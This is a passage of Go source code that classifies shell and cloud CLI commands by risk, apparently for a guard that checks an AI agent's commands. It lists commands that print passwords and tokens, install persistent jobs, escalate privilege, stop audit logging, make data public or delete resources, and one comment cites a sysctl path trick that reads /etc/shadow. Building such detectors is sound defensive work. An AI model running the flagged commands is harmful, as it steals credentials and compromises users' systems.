		"ctr":            {effect: EffectRuns, subs: subcommands{{"run", ctrRun}, {"container", &cmdSpec{subs: subcommands{{"create", ctrRun}}}}}},
		"podman": {effect: EffectRuns, subs: subcommands{{"run", dockerRun}, {"create", dockerRun}, {"build", buildContext}, {"rm", containerRm},
			{"system", &cmdSpec{opts: []optEffect{{names: []string{"prune", "reset"}, operand: true, class: ClassDestructive, why: "deletes unused containers, images and volumes"}}}},
			{"volume", &cmdSpec{opts: []optEffect{{names: []string{"rm", "prune"}, operand: true, class: ClassDestructive, why: "deletes volumes and their data"}}}},
			{"image", dockerPrune}, {"container", dockerPrune}}},

		// Running as root.
		"sudo":    {effect: EffectPrivilege, class: ClassPrivilege, bare: true, why: "runs a command as root", rare: &rareSpec{unless: []string{"-l", "-v", "-k", "-K", "-V", "-h", "--list", "--validate", "--reset-timestamp", "--remove-timestamp", "--version", "--help"}}},
		"doas":    {effect: EffectPrivilege, class: ClassPrivilege, why: "runs a command as root", rare: &rareSpec{unless: []string{"-L"}}},
		"run0":    {effect: EffectPrivilege, class: ClassPrivilege, why: "runs a command as root"},
		"runuser": {effect: EffectPrivilege, class: ClassPrivilege, why: "runs a command as another user"},

		// Persistence.
		"crontab":     {effect: EffectPersistence, class: ClassPersistence, why: "installs a scheduled job that runs later by itself", rare: &rareSpec{unless: []string{"-l"}}},
		"at":          {effect: EffectPersistence, class: ClassPersistence, why: "schedules a command to run later by itself", rare: &rareSpec{unless: []string{"-l", "-r", "-d", "-c"}}},
		"batch":       {effect: EffectPersistence, class: ClassPersistence, why: "schedules a command to run later by itself"},
		"update-rc.d": {effect: EffectPersistence, class: ClassPersistence, why: "installs a service that starts at boot"},
		"chkconfig":   {effect: EffectPersistence, class: ClassPersistence, why: "installs a service that starts at boot", rare: &rareSpec{unless: []string{"--list"}}},
		"rc-update":   {effect: EffectPersistence, class: ClassPersistence, why: "installs a service that starts at boot", rare: &rareSpec{unless: []string{"show"}}},
		"systemctl": {subs: subcommands{{"stop", systemctlOff}, {"disable", systemctlOff}, {"kill", systemctlOff}, {"mask", systemctlOff}}, opts: []optEffect{{names: []string{"enable", "link", "edit", "set-default", "preset", "preset-all", "add-wants", "add-requires", "revert", "mask", "reenable"}, operand: true, effect: EffectPersistence, class: ClassPersistence, why: "installs or changes a service that starts by itself"},
			{match: otherUnit, operand: true, when: systemStops, class: ClassDestructive, why: stopsServiceWhy}}},
		"systemd-run": {effect: EffectPersistence | EffectRuns, opts: []optEffect{{names: []string{"--on-calendar", "--on-boot", "--on-startup", "--on-active", "--on-unit-active", "--on-unit-inactive", "--timer-property", "--unit", "-u"}, class: ClassPersistence, why: "installs a timer or service that runs later by itself"}},
			long: []string{"on-calendar=", "on-boot=", "on-startup=", "on-active=", "on-unit-active=", "on-unit-inactive=", "timer-property=", "unit=", "user", "scope", "property=", "description=", "slice=", "uid=", "gid=", "working-directory=", "same-dir", "setenv=", "pty", "pipe", "quiet", "wait", "collect", "remain-after-exit", "service-type=", "nice=", "machine=", "host="}},
		"launchctl":   {subs: subcommands{{"setenv", &cmdSpec{opts: []optEffect{{match: loaderVar, operand: true, first: true, class: ClassPersistence, why: "makes every program launchd starts from now on load a library"}}}}, {"unload", gateStop}, {"bootout", gateStop}, {"disable", gateStop}, {"kill", gateStop}, {"stop", gateStop}, {"remove", gateStop}}, opts: []optEffect{{names: []string{"load", "bootstrap", "submit", "enable", "kickstart"}, operand: true, effect: EffectPersistence, class: ClassPersistence, why: "installs a launch agent or daemon that runs by itself"}}},
		"ssh-copy-id": {effect: EffectNetwork | EffectPersistence, class: ClassPersistence, why: "adds a login key to a machine's authorized_keys"},

		// Privilege.
		"su":      {effect: EffectPrivilege, class: ClassPrivilege, why: "switches to another user (root by default)"},
		"pkexec":  {effect: EffectPrivilege, class: ClassPrivilege, why: "runs a command as root"},
		"setcap":  {effect: EffectPrivilege, class: ClassPrivilege, why: "gives a program capabilities, so it runs with root's powers"},
		"usermod": {effect: EffectPrivilege, class: ClassPrivilege, why: "changes a user's groups or rights"},
		"gpasswd": {effect: EffectPrivilege, class: ClassPrivilege, why: "changes group membership"},
		"newgrp":  {effect: EffectPrivilege, class: ClassPrivilege, why: "switches the shell to another group"},
		"adduser": {effect: EffectPrivilege, class: ClassPrivilege, why: "creates a user or adds one to a group"},
		"useradd": {effect: EffectPrivilege, class: ClassPrivilege, why: "creates a user"},
		"passwd":  {effect: EffectPrivilege, class: ClassPrivilege, why: "changes a password"},
		"visudo":  {effect: EffectPrivilege, class: ClassPrivilege, why: "edits who may use sudo"},
		"mount": {effect: EffectPrivilege, class: ClassPrivilege, bare: true, why: "mounts a file system, which can hide or replace system files", rare: &rareSpec{unless: []string{"-l"}},
			// -l lists, except beside -a, which mounts all fstab names.
			opts: []optEffect{{names: []string{"-a", "--all"}, effect: EffectPrivilege, class: ClassPrivilege, why: "mounts every file system fstab lists"}}},
		"nsenter": {effect: EffectPrivilege | EffectRuns, class: ClassPrivilege, why: "enters another process's namespaces (a container escape)"},
		"sysctl": {shortVal: "p", opts: []optEffect{{names: []string{"-w", "--write", "-p", "--load", "-f", "--system"}, effect: EffectPrivilege, class: ClassPrivilege, why: "changes kernel settings"},
			// "sysctl key=value" sets as -w does; a key with ".." reads a
			// file outside /proc/sys ("sysctl -n /../../etc/shadow").
			{operand: true, match: setsValue, effect: EffectPrivilege, class: ClassPrivilege, why: "changes kernel settings"},
			{operand: true, match: climbsOut, class: ClassCredential, why: "reads a file outside /proc/sys through a key that climbs out of it"}}},
		"insmod":   {effect: EffectPrivilege, class: ClassPrivilege, why: "loads a kernel module"},
		"chroot":   {effect: EffectPrivilege | EffectRuns, class: ClassPrivilege, why: "runs a command with another root directory (as root)"},
		"umount":   {effect: EffectPrivilege, class: ClassPrivilege, why: "unmounts a file system"},
		"chpasswd": {effect: EffectPrivilege, class: ClassPrivilege, why: "changes passwords"},
		"chage":    {effect: EffectPrivilege, class: ClassPrivilege, why: "changes password expiry", rare: &rareSpec{unless: []string{"-l", "--list"}}},
		"chsh":     {effect: EffectPrivilege, class: ClassPrivilege, why: "changes a user's login shell"},
		"vipw":     {effect: EffectPrivilege, class: ClassPrivilege, why: "edits the user accounts"},
		"vigr":     {effect: EffectPrivilege, class: ClassPrivilege, why: "edits the groups"},
		"groupadd": {effect: EffectPrivilege, class: ClassPrivilege, why: "creates a group"},
		"groupmod": {effect: EffectPrivilege, class: ClassPrivilege, why: "changes a group"},
		"addgroup": {effect: EffectPrivilege, class: ClassPrivilege, why: "creates a group or adds a user to one"},
		"userdel":  {effect: EffectPrivilege, class: ClassDestructive, why: "deletes a user account"},
		"deluser":  {effect: EffectPrivilege, class: ClassDestructive, why: "deletes a user account"},
		"groupdel": {effect: EffectPrivilege, class: ClassDestructive, why: "deletes a group"},
		"install": {long: []string{"mode=", "owner=", "group=", "target-directory=", "suffix=", "backup=", "compare", "directory", "preserve-timestamps", "strip", "strip-program=", "verbose", "context="},
			shortVal: "mogtSb",
			opts: []optEffect{{names: []string{"-m", "--mode"}, value: setuidMode, effect: EffectPrivilege, class: ClassPrivilege, why: "installs a program with the setuid or setgid bit, so it runs with its owner's rights"},
				{names: []string{"-o", "--owner"}, value: rootOwner, effect: EffectPrivilege, class: ClassPrivilege, why: "hands files to root"}}},
		"modprobe": {effect: EffectPrivilege, class: ClassPrivilege, why: "loads a kernel module", rare: &rareSpec{unless: []string{"-r", "-n", "--dry-run"}}},

		// Supply chain: installers given a URL, a git remote or another index.
		"pip": pipSpec(), "pip3": pipSpec(), "pipx": {subs: subcommands{{"install", withRemoteOpts(supplyInstall(nil, ""), "--spec")}, {"run", supplyRun(withRemoteOpts(supplyInstall(nil, ""), "--spec"))}}},
		"uv": {subs: subcommands{{"pip", pipSpec()}, {"tool", &cmdSpec{subs: subcommands{{"install", withRemoteOpts(supplyInstall(nil, ""), "--from", "--with")}, {"run", uvToolRun()}}}},
			{"add", withIndexValue(supplyInstall(uvAddLong, "rcmifPp", "--index", "--extra-index-url", "--find-links", "-f"), "--index-url", "-i", "--default-index")}, {"publish", publish},
			// uv run URL runs a script fetched from the URL (PEP 723),
			// --with a URL installs from it first.
			{"run", withRemoteOpts(&cmdSpec{long: []string{"no-project", "isolated", "frozen", "locked", "no-sync", "all-extras", "with=", "python=", "extra=", "env-file=",
				"directory=", "project=", "package=", "group=", "script", "gui-script", "with-requirements=", "with-editable="}, shortVal: "pw",
				opts: []optEffect{{match: foreignScriptURL, operand: true, first: true, class: ClassSupplyChain, why: "runs a script straight from a URL"}}}, "--with", "--with-requirements", "--with-editable")}}},
		"npm": {subs: subcommands{{"install", npmInstall()}, {"i", npmInstall()}, {"add", npmInstall()}, {"exec", npmExec()}, {"x", npmExec()},
			{"config", &cmdSpec{subs: subcommands{{"set", npmConfigSet}, {"get", npmConfigGet}}}}, {"c", &cmdSpec{subs: subcommands{{"set", npmConfigSet}, {"get", npmConfigGet}}}}, {"set", npmConfigSet}, {"get", npmConfigGet},
			{"publish", publish}, {"unpublish", &cmdSpec{class: ClassDestructive, why: "deletes a published package version from the registry"}},
			{"token", npmToken}}},
		"npx": npxSpec(),
		// flatpak install --from URL (or a .flatpakref URL) installs from a
		// remote nobody added.
		"flatpak": {subs: subcommands{{"install", &cmdSpec{long: []string{"from=", "sideload-repo=", "arch=", "installation="},
			opts: []optEffect{{names: []string{"--from"}, value: remotePackage, class: ClassSupplyChain, why: "installs an application straight from a URL"},
				{operand: true, match: remotePackage, class: ClassSupplyChain, why: "installs an application straight from a URL"}}}}}},
		"uvx":  uvToolRun(),
		"pnpm": {subs: subcommands{{"token", npmToken}, {"add", npmInstall()}, {"install", npmInstall()}, {"i", npmInstall()}, {"dlx", npmExec()}, {"config", &cmdSpec{subs: subcommands{{"set", npmConfigSet}, {"get", npmConfigGet}}}}, {"publish", publish}}},
		"yarn": {subs: subcommands{{"add", npmInstall()}, {"dlx", npmExec()}, {"publish", publish}, {"npm", &cmdSpec{subs: subcommands{{"publish", publish}}}}, {"config", &cmdSpec{subs: subcommands{{"set", npmConfigSet}, {"get", npmConfigGet}}}}}},
		"bun":  {subs: subcommands{{"add", npmInstall()}, {"install", npmInstall()}, {"x", npmExec()}, {"publish", publish}, {"run", runsURL}}},
		// deno runs and installs programs straight from a URL; its own
		// registries (deno.land, jsr.io) are as npm's by name.
		"deno":  {probe: true, subs: subcommands{{"run", runsURL}, {"install", runsURL}, {"compile", runsURL}, {"serve", runsURL}}},
		"gem":   {subs: subcommands{{"sources", &cmdSpec{shortVal: "a", long: []string{"add="}, opts: []optEffect{{names: []string{"--add", "-a"}, class: ClassSupplyChain, why: addsSourceWhy}}}}, {"push", publish}, {"yank", &cmdSpec{class: ClassDestructive, why: "withdraws a published gem version"}}, {"install", withIndexValue(supplyInstall([]string{"source=", "clear-sources", "version=", "user-install", "install-dir=", "bindir="}, "svin"), "--source", "-s")}}},
		"cargo": {subs: subcommands{{"publish", publish}, {"yank", &cmdSpec{class: ClassDestructive, why: "withdraws a published crate version"}}, {"install", supplyInstall([]string{"git=", "branch=", "tag=", "rev=", "path=", "index=", "registry=", "version=", "locked", "force", "root=", "target-dir=", "bin=", "example=", "features=", "profile=", "target=", "jobs=", "config="}, "jF", "--git", "--index")}}},
		"go": {subs: subcommands{{"install", supplyInstall(nil, "")}, {"env", &cmdSpec{opts: []optEffect{{names: []string{"GOPROXY=", "GOSUMDB=", "GOINSECURE=", "GONOSUMDB=", "GONOSUMCHECK="},
			operand: true, prefix: true, class: ClassSupplyChain, why: "points every later go command at another module proxy or turns off its checksums"},
			{operand: true, match: goFlagsExec, class: ClassPersistence, why: "sets GOFLAGS that run a program in the toolchain's place in every later go command"}}}}}},
		"bundle": {subs: subcommands{{"config", &cmdSpec{opts: []optEffect{{names: []string{"mirror.", "MIRROR__", "BUNDLE_MIRROR__"}, operand: true, prefix: true, class: ClassSupplyChain, why: addsSourceWhy}}}}}},
		"composer": {subs: subcommands{{"config", &cmdSpec{opts: []optEffect{{names: []string{"repo.", "repositories."},
			operand: true, prefix: true, class: ClassSupplyChain, why: "points every later install at another package repository"}}}}}},
		// Other ecosystems' publishing: a build goal or task that uploads
		// the project's artifacts (mvn deploy, gradle publish, sbt
		// publish), or a publish subcommand.
		"mvn": mavenSpec, "mvnw": mavenSpec, "gradle": gradleSpec, "gradlew": gradleSpec,
		"sbt":  {opts: []optEffect{{match: sbtPublish, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: publishWhy}}},
		"mix":  {opts: []optEffect{{names: []string{"hex.publish"}, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: publishWhy}}},
		"lein": {subs: subcommands{{"deploy", publish}}}, "hatch": {subs: subcommands{{"publish", publish}}}, "pdm": {subs: subcommands{{"publish", publish}}},
		"dotnet": {subs: subcommands{{"nuget", &cmdSpec{subs: subcommands{{"push", publish}}}}}}, "nuget": {subs: subcommands{{"push", publish}}},
		"dart": pubSpec, "flutter": pubSpec, "vsce": {subs: subcommands{{"publish", publish}}}, "ovsx": {subs: subcommands{{"publish", publish}}},
		"pod":  {subs: subcommands{{"trunk", &cmdSpec{subs: subcommands{{"push", publish}}}}}},
		"brew": {subs: subcommands{{"install", supplyInstall(nil, "")}, {"tap", supplyInstall(nil, "")}}},

		// Credentials printed by their tools.
		"security": {opts: []optEffect{{names: []string{"find-generic-password", "find-internet-password", "dump-keychain", "export"}, operand: true, class: ClassCredential, why: "prints passwords from the keychain"},
			{names: []string{"add-trusted-cert", "trust-settings-import"}, operand: true, class: ClassSupplyChain, why: trustsCAWhy},
			{names: []string{"delete-keychain", "delete-generic-password", "delete-internet-password", "delete-identity", "delete-certificate"}, operand: true, class: ClassDestructive, why: "deletes keychains or the passwords, keys and certificates in them"}}},
		// NSS's certutil adding a certificate to a browser's or the user's
		// database (-A), with the trust its -t gives.
		"certutil": {probe: true, opts: []optEffect{{names: []string{"-A"}, class: ClassSupplyChain, why: trustsCAWhy},
			{names: []string{"-addstore", "-addStore", "-AddStore", "-ADDSTORE", "-importpfx", "-importPFX", "-ImportPFX", "-installcert", "-installCert"}, class: ClassSupplyChain, why: trustsCAWhy},
			{operand: true, match: certutilTrusts, class: ClassSupplyChain, why: trustsCAWhy}}},
		// macOS's quarantine mark makes Gatekeeper check a downloaded
		// program before its first run.
		// A program of the workspace's own (bin/tool, a release it
		// unpacked there) is everyday work; one elsewhere is not.
		"xattr": {opts: []optEffect{{names: []string{"com.apple.quarantine"}, operand: true, when: xattrClearsOutside, effect: EffectPrivilege, class: ClassPrivilege, why: quarantineWhy},
			{names: []string{"-c"}, when: xattrClearsOutside, effect: EffectPrivilege, class: ClassPrivilege, why: quarantineWhy}}},
		"defaults": {opts: []optEffect{{names: []string{"LSQuarantine"}, operand: true, when: defaultsWrites, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off the quarantine mark of downloaded files, so Gatekeeper no longer checks them"}}},
		"tmutil":   {opts: []optEffect{{names: []string{"delete", "deletelocalsnapshots", "thinlocalsnapshots", "disable"}, operand: true, class: ClassDestructive, why: "deletes or turns off Time Machine's backups"}}},
		"gopass":   {opts: []optEffect{{names: []string{"show", "cat", "otp"}, operand: true, first: true, class: ClassCredential, why: "prints passwords from the password store"}}},
		// docker's credential helpers answer "get" with the stored
		// registry password.
		"docker-credential-desktop": dockerHelperGet, "docker-credential-osxkeychain": dockerHelperGet, "docker-credential-pass": dockerHelperGet,
		"docker-credential-secretservice": dockerHelperGet, "docker-credential-wincred": dockerHelperGet, "docker-credential-ecr-login": dockerHelperGet,
		"docker-credential-gcloud": dockerHelperGet, "docker-credential-gcr": dockerHelperGet,
		"secret-tool": {opts: []optEffect{{names: []string{"lookup", "search"}, operand: true, class: ClassCredential, why: "prints passwords from the keyring"}}},
		"pass":        {class: ClassCredential, bare: true, why: "prints passwords from the password store", rare: &rareSpec{unless: []string{"ls", "list", "find", "search", "init", "git", "--help", "--version"}}},
		"gpg":         {opts: []optEffect{{names: []string{"--export-secret-keys", "--export-secret-subkeys"}, class: ClassCredential, why: "exports GnuPG private keys"}}},
		"gh": {opts: []optEffect{sendsCredential, withWhen(sendsSecretFile, notGhAPI)}, subs: subcommands{{"auth", &cmdSpec{opts: []optEffect{{names: []string{"token"}, operand: true, class: ClassCredential, why: "prints the GitHub token"},
			{names: []string{"--show-token", "-t"}, class: ClassCredential, why: "prints the GitHub token"},
			{names: []string{"--scopes", "-s"}, when: ghAuthRefresh, effect: EffectPrivilege, class: ClassPrivilege, why: "widens the GitHub token's scopes (delete_repo, admin:org), and with them what the agent's calls may do"}}}},
			{"repo", &cmdSpec{long: []string{"visibility=", "accept-visibility-change-consequences", "allow-write", "title=", "key-type="},
				opts: []optEffect{{names: []string{"delete"}, operand: true, class: ClassDestructive, why: "deletes a GitHub repository"},
					{names: []string{"--visibility"}, value: isPublic, class: ClassExfiltrate, why: makesPublicWhy}},
				subs: subcommands{{"deploy-key", &cmdSpec{opts: []optEffect{{names: []string{"add"}, operand: true, class: ClassPersistence, why: "adds a deploy key: whoever holds its private half reaches the repository"}}}}}}},
			{"gpg-key", ghDeletes},
			{"ssh-key", &cmdSpec{shortVal: "t", long: []string{"title=", "type="},
				opts: []optEffect{{names: []string{"add"}, operand: true, when: addsForeignKey, class: ClassPersistence, why: "adds an SSH key that is not one of the user's own to the GitHub account: whoever holds its private half pushes as the user"},
					{names: []string{"delete"}, operand: true, first: true, class: ClassDestructive, why: ghDeleteWhy}}}},
			{"gist", &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: credentialPath, operand: true, class: ClassCredential, why: "uploads a credential file to a gist"},
				{names: []string{"delete"}, operand: true, first: true, class: ClassDestructive, why: ghDeleteWhy}}}},
			{"codespace", &cmdSpec{opts: []optEffect{{names: []string{"delete"}, operand: true, first: true, class: ClassDestructive, why: ghDeleteWhy}}, subs: subcommands{{"ports", &cmdSpec{subs: subcommands{{"visibility", &cmdSpec{effect: EffectNetwork,
				opts: []optEffect{{match: publicPort, operand: true, class: ClassExfiltrate, why: "makes a codespace's port public on the internet"}}}}}}}}}},
			{"release", &cmdSpec{opts: []optEffect{{names: []string{"delete"}, operand: true, class: ClassDestructive, why: "deletes a GitHub release"}}}},
			{"secret", &cmdSpec{opts: []optEffect{{names: []string{"set", "delete", "remove"}, operand: true, class: ClassDestructive, why: "changes the repository's CI secrets"}}}},
			{"variable", ghDeletes}, {"issue", ghDeletes}, {"label", ghDeletes}, {"cache", ghDeletes}, {"run", ghDeletes},
			{"project", ghDeletes}, {"ruleset", ghDeletes},
			{"pr", &cmdSpec{opts: []optEffect{{names: []string{"--admin"}, effect: EffectPrivilege, class: ClassPrivilege, why: "merges past the branch's protection rules (required reviews and checks)"}}}},
			{"api", &cmdSpec{shortVal: "XfFHpq", long: []string{"method=", "field=", "raw-field=", "header=", "input=", "jq=", "paginate", "include", "silent", "hostname=", "preview=", "template=", "cache=", "verbose", "slurp"},
				opts: []optEffect{{names: []string{"-X", "--method"}, value: httpDelete, class: ClassDestructive, why: "sends an HTTP DELETE to the GitHub API, deleting what it names"},
					{names: []string{"-f", "-F", "--field", "--raw-field"}, value: publicField, class: ClassExfiltrate, why: makesPublicWhy},
					{match: grantsEndpoint, operand: true, when: httpPut, class: ClassPersistence, why: "gives another GitHub account access to a repository or an organisation"}}}}}},
		"vault": {effect: EffectNetwork, opts: []optEffect{{names: []string{"delete", "destroy", "disable", "revoke"}, operand: true, class: ClassDestructive, why: "deletes or disables secrets, policies, leases or auth methods in Vault"}}, subs: subcommands{{"read", &cmdSpec{class: ClassCredential, why: "prints a secret from Vault"}},
			// kv get prints the secret; kv metadata get only its versions.
			{"kv", &cmdSpec{opts: []optEffect{{names: []string{"get"}, operand: true, first: true, class: ClassCredential, why: "prints a secret from Vault"}}}},
			{"token", &cmdSpec{opts: []optEffect{{names: []string{"create", "lookup"}, operand: true, class: ClassCredential, why: "creates or prints a Vault token"}}}},
			{"print", &cmdSpec{opts: []optEffect{{names: []string{"token"}, operand: true, class: ClassCredential, why: "prints the Vault token"}}}}}},
		"op": {opts: []optEffect{{names: []string{"delete"}, operand: true, class: ClassDestructive, why: "deletes items, documents, vaults, users or groups in 1Password"}}, subs: subcommands{
			{"signin", &cmdSpec{opts: []optEffect{{names: []string{"--raw"}, class: ClassCredential, why: "prints a 1Password session token"}}}}, {"read", &cmdSpec{class: ClassCredential, why: "prints a secret from 1Password"}},
			{"item", &cmdSpec{opts: []optEffect{{names: []string{"get"}, operand: true, class: ClassCredential, why: "prints a secret from 1Password"}}}},
			{"document", &cmdSpec{opts: []optEffect{{names: []string{"get"}, operand: true, first: true, class: ClassCredential, why: "prints a document from 1Password"}}}}}},
		"bw": {subs: subcommands{{"get", &cmdSpec{class: ClassCredential, why: "prints a secret from Bitwarden"}}, {"export", &cmdSpec{class: ClassCredential, why: "exports the Bitwarden vault"}},
			{"list", &cmdSpec{opts: []optEffect{{names: []string{"items"}, operand: true, first: true, class: ClassCredential, why: "prints every Bitwarden item, passwords included"}}}}}},
		// Hosting and cloud CLIs that print their login token; their other
		// arguments are probed as an unknown command's (apps:destroy).
		"heroku": {probe: true, opts: []optEffect{{names: []string{"auth:token", "authorizations:create"}, operand: true, class: ClassCredential, why: "prints a Heroku API token"},
			{names: []string{"config", "config:get"}, operand: true, class: ClassCredential, why: "prints an app's config vars, its database URLs and API keys"}}},
		// Other platforms' app settings and secret managers, printed or
		// pulled into a file, as heroku config prints them.
		"netlify": {probe: true, opts: []optEffect{{names: []string{"env:list", "env:get"}, operand: true, first: true, class: ClassCredential, why: appSecretsWhy}}},
		"railway": {probe: true, opts: []optEffect{{names: []string{"variables", "variable", "vars", "var"}, operand: true, first: true, when: noSetFlag, class: ClassCredential, why: appSecretsWhy}}},
		"vercel":  {probe: true, subs: subcommands{{"env", &cmdSpec{opts: []optEffect{{names: []string{"pull"}, operand: true, first: true, class: ClassCredential, why: appSecretsWhy}}}}}},
		"doppler": {probe: true, subs: subcommands{{"secrets", &cmdSpec{class: ClassCredential, why: appSecretsWhy, rare: &rareSpec{unless: []string{"set", "delete", "upload", "--only-names", "--help", "-h"}}}}, {"run", &cmdSpec{}}}},
		"infisical": {probe: true, long: []string{"domain=", "token=", "log-level="}, opts: []optEffect{{names: []string{"export", "secrets"}, operand: true, first: true, class: ClassCredential, why: appSecretsWhy},
			{names: []string{"dynamic-secrets"}, operand: true, first: true, class: ClassCredential, why: "leases a dynamic secret (a database login) and prints it"}}},
		"doctl":  {probe: true, subs: subcommands{{"auth", &cmdSpec{opts: []optEffect{{names: []string{"token"}, operand: true, class: ClassCredential, why: "prints the DigitalOcean API token"}}}}}},
		"flyctl": {probe: true, subs: subcommands{{"auth", &cmdSpec{opts: []optEffect{{names: []string{"token"}, operand: true, class: ClassCredential, why: "prints the Fly.io API token"}}}}, {"tokens", &cmdSpec{opts: []optEffect{{names: []string{"create"}, operand: true, class: ClassCredential, why: "creates a Fly.io API token"}}}}}},
		"fly":    {probe: true, subs: subcommands{{"auth", &cmdSpec{opts: []optEffect{{names: []string{"token"}, operand: true, class: ClassCredential, why: "prints the Fly.io API token"}}}}, {"tokens", &cmdSpec{opts: []optEffect{{names: []string{"create"}, operand: true, class: ClassCredential, why: "creates a Fly.io API token"}}}}}},
		"glab":   {probe: true, subs: subcommands{{"auth", &cmdSpec{opts: []optEffect{{names: []string{"--show-token", "-t"}, class: ClassCredential, why: "prints the GitLab token"}}}}}},
		"lpass":  {subs: subcommands{{"show", &cmdSpec{class: ClassCredential, why: "prints a secret from LastPass"}}, {"export", &cmdSpec{class: ClassCredential, why: "exports the LastPass vault"}}}},
		"gcloud": {subs: subcommands{{"config", &cmdSpec{opts: []optEffect{{names: []string{"config-helper"}, operand: true, first: true, class: ClassCredential, why: "prints the current access token with the configuration"}}}}, {"iam", &cmdSpec{subs: subcommands{{"service-accounts", &cmdSpec{subs: subcommands{{"keys", &cmdSpec{opts: []optEffect{{names: []string{"create"}, operand: true, class: ClassCredential, why: "creates a long-lived service account key and writes it out"}}}}}}}}}}, {"storage", gcloudStorage}, {"compute", gcloudCompute}, {"alpha", gcloudTracks}, {"beta", gcloudTracks}, {"auth", &cmdSpec{opts: []optEffect{{names: []string{"print-access-token", "print-identity-token", "application-default"}, operand: true, class: ClassCredential, why: "prints a Google Cloud token"}}}}},
			opts: []optEffect{{names: []string{"delete"}, operand: true, class: ClassDestructive, why: "deletes cloud resources"},
				{names: []string{"access"}, operand: true, class: ClassCredential, why: "prints a secret's value"},
				{names: []string{"add-iam-policy-binding", "set-iam-policy"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "grants roles on a cloud resource"}}},
		"aws": {effect: EffectNetwork, subs: subcommands{
			{"configure", &cmdSpec{opts: []optEffect{{names: []string{"export-credentials"}, operand: true, class: ClassCredential, why: "prints AWS credentials"},
				{operand: true, match: awsCredentialKey, class: ClassCredential, why: "prints or sets an AWS credential"}}}},
			{"sts", &cmdSpec{opts: []optEffect{{names: []string{"get-session-token", "assume-role"}, operand: true, class: ClassCredential, why: "creates AWS credentials"}}}},
			{"sso", &cmdSpec{opts: []optEffect{{names: []string{"get-role-credentials"}, operand: true, class: ClassCredential, why: "prints AWS credentials"}}}},
			{"s3api", &cmdSpec{effect: EffectNetwork, probe: true, long: []string{"acl=", "public-access-block-configuration=", "versioning-configuration="}, opts: []optEffect{sendsCredential, sendsSecretFile, sendsHome,
				{names: []string{"--acl"}, value: publicACL, class: ClassExfiltrate, why: "makes a bucket or its objects readable by anyone"},
				{names: []string{"--public-access-block-configuration"}, value: turnsOff, class: ClassExfiltrate, why: "lifts a bucket's block on public access"},
				{names: []string{"--versioning-configuration"}, value: suspends, class: ClassDestructive, why: "suspends a bucket's versioning: objects overwritten or deleted from then on keep no earlier version"}}}},
			{"ec2", &cmdSpec{long: []string{"cidr=", "cidr-ipv6=", "ip-permissions="},
				opts: []optEffect{{names: []string{"--cidr", "--cidr-ipv6", "--ip-permissions"}, value: wholeInternet, class: ClassExfiltrate, why: openToInternetWhy}}}},
			{"lambda", &cmdSpec{long: []string{"principal="}, opts: []optEffect{{names: []string{"--principal"}, value: wholeInternet, class: ClassExfiltrate, why: "lets anyone invoke the function"}}}},
			{"kms", &cmdSpec{opts: []optEffect{{names: []string{"schedule-key-deletion", "disable-key"}, operand: true, class: ClassDestructive, why: "deletes or disables a key, and with it the data encrypted under it"}}}},
			{"organizations", &cmdSpec{opts: []optEffect{{names: []string{"leave-organization"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "takes the account out of its organization and from under the organization's guardrails"}}}},
			{"cloudtrail", &cmdSpec{opts: []optEffect{{names: []string{"stop-logging"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "stops the audit log of the AWS account"}}}},
			{"configservice", &cmdSpec{opts: []optEffect{{names: []string{"stop-configuration-recorder"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "stops recording the AWS account's configuration changes"}}}},
			{"guardduty", &cmdSpec{opts: []optEffect{{names: []string{"--no-enable"}, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off the AWS account's threat detection"}}}},
			{"s3", &cmdSpec{effect: EffectNetwork, long: []string{"acl="}, opts: []optEffect{{names: []string{"rm", "rb"}, operand: true, class: ClassDestructive, why: "deletes S3 objects or buckets"},
				{names: []string{"--acl"}, value: publicACL, class: ClassExfiltrate, why: "makes the objects it uploads readable by anyone"},
				{match: credentialPath, operand: true, class: ClassCredential, why: "uploads a credential file"}, sendsHome,
				{names: []string{"--delete"}, class: ClassDestructive, why: "deletes objects that are not in the source"}}}},
			{"secretsmanager", &cmdSpec{opts: []optEffect{{names: []string{"get-secret-value"}, operand: true, class: ClassCredential, why: "prints a secret"},
				{names: []string{"update-secret", "put-secret-value"}, operand: true, class: ClassDestructive, why: "overwrites a stored secret, which its users read"}}}},
			{"ssm", &cmdSpec{opts: []optEffect{{names: []string{"--with-decryption"}, class: ClassCredential, why: "prints decrypted parameters"}}}},
			{"iam", &cmdSpec{opts: []optEffect{{names: []string{"create-access-key", "create-login-profile", "update-login-profile", "create-service-specific-credential"}, operand: true, class: ClassCredential, why: "creates long-lived AWS credentials"},
				{names: []string{"create-user"}, operand: true, effect: EffectPrivilege, class: ClassPersistence, why: "creates an IAM user, a lasting identity in the AWS account"},
				{names: []string{"attach-user-policy", "attach-role-policy", "attach-group-policy", "put-user-policy", "put-role-policy", "put-group-policy", "add-user-to-group", "create-policy-version", "update-assume-role-policy"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "grants AWS permissions"},
				{match: cloudDelete, operand: true, class: ClassDestructive, why: "deletes or terminates cloud resources"}}}}},
			long: []string{"query-string=", "sql="},
			opts: []optEffect{{match: cloudDelete, operand: true, class: ClassDestructive, why: "deletes or terminates cloud resources"}, awsSendsFile,
				sqlValue("--query-string", "--sql")}}, // athena, redshift-data, rds-data
		"gsutil": {effect: EffectNetwork, shortVal: "ohu", subs: subcommands{{"rsync", &cmdSpec{shortVal: "ajxy", opts: []optEffect{{names: []string{"-d"}, class: ClassDestructive, why: "deletes the objects that are not in the source"}}}}}, opts: []optEffect{{names: []string{"rm", "rb"}, operand: true, class: ClassDestructive, why: "deletes storage objects or buckets"},
			{match: credentialPath, operand: true, class: ClassCredential, why: "uploads a credential file"}, sendsHome}},
		"az": {effect: EffectNetwork, subs: subcommands{{"account", &cmdSpec{opts: []optEffect{{names: []string{"get-access-token"}, operand: true, class: ClassCredential, why: "prints an Azure token"}}}},
			{"ad", &cmdSpec{subs: subcommands{{"sp", azCredentials}, {"app", azCredentials}}}},
			{"role", &cmdSpec{opts: []optEffect{{names: []string{"create"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "grants roles on Azure resources"}}}},
